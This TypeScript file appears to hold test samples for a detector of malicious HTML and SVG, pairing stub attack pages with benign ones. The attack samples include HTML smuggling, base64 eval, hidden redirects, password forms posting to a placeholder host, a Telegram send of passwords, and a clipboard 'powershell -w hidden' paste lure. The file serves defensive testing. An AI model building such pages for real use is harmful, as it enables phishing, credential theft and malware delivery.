import { type Samples, base64 } from './samples.ts';

const page = (content: string) => `<!DOCTYPE html><html><head></head><body>${content}</body></html>`;
const script = (code: string) => page(`<script>${code}</script>`);
const svg = (content: string) => `<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`;
const password = '<input name="p" type="password">';

export const html: Samples = {
  rules: {
    Html_Builds_A_File: [
      script(
        `var d = atob("${base64(1200)}"); var b = new Blob([d]); a.href = URL.createObjectURL(b); a.download = "x";`,
      ),
      script(`var d = new Uint8Array(1); var p = '${base64(1200)}'; navigator.msSaveOrOpenBlob(d, "x");`),
    ],
    Html_Carries_Program: [script(`var p = "TVqQAAMAAAAEAAAA${base64(120)}";`)],
    Html_Carries_Archive: [script(`var p = "UEsDBBQAAAA${base64(600)}";`), script(`var p = 'N3q8ryc${base64(600)}';`)],
    Html_Offers_Data_Link: [page(`<a href="data:application/zip;base64,${base64(600)}" download="a.zip">open</a>`)],
    Html_Unpacks_Itself: [
      script(`document.write(unescape("${'%3C'.repeat(120)}"));`),
      script(`eval(atob('${base64(400)}'));`),
      script('eval(function(p,a,c,k,e,d){return p}("x",1,1,"".split("|")))'),
    ],
    Html_Hidden_Redirect: [
      script('window.location.href = atob("aHR0cHM6Ly9hLmV4YW1wbGUudGVzdA==");'),
      script('var u = "aHR0cHM6Ly9hLmV4YW1wbGUudGVzdA=="; location.replace(atob(u));'),
    ],
    Html_Sends_Password_To_Telegram: [
      page(`${password}<script>fetch("https://api.telegram.org/bot1:x/sendMessage")</script>`),
    ],
    Html_Asks_For_Password: [
      page(`<form method="post" action="https://a.example.test/b.php">${password}</form>`),
      page(`${password}<script>$.ajax({ url: u })</script>`),
    ],
    Html_Makes_Reader_Paste_Command: [script('navigator.clipboard.writeText("powershell -w hidden x")')],
    Html_Searches_Remote_Share: [page('<a href="search-ms:query=a&crumb=location:\\\\192.0.2.7\\a">open</a>')],
    Svg_With_Script: [
      svg('<script>window.location = "https://a.example.test"</script>'),
      svg('<image onload="eval(atob(x))"/>'),
    ],
    Svg_With_Web_Page: [svg('<foreignObject><iframe src="https://a.example.test"></iframe></foreignObject>')],
  },
  honest: {
    'a newsletter': page(
      '<table><tr><td><a href="https://www.example.test/c?u=aHR0cHM6Ly9hLmV4YW1wbGU">Read</a></td></tr></table>',
    ),
    'a newsletter with a search form': page(
      '<form action="https://www.example.test/search"><input type="text"></form>',
    ),
    'a page with a picture inside': page(`<img src="data:image/png;base64,${base64(5000)}">`),
    'a page with a counter': script('var n = Number(localStorage.n) + 1; document.title = n;'),
    'a page that redirects openly': script('window.location.href = "https://www.example.test/";'),
    'a letter that warns of passwords': page('<p>We never ask for your password.</p>'),
    'a drawing': svg('<path d="M0 0h10v10z"/>'),
    'a drawing that moves': svg('<script>let a = document.getElementById("a"); a.beginElement();</script>'),
    'a page with a drawing': page(svg('<path d="M0 0"/>')),
  },
};
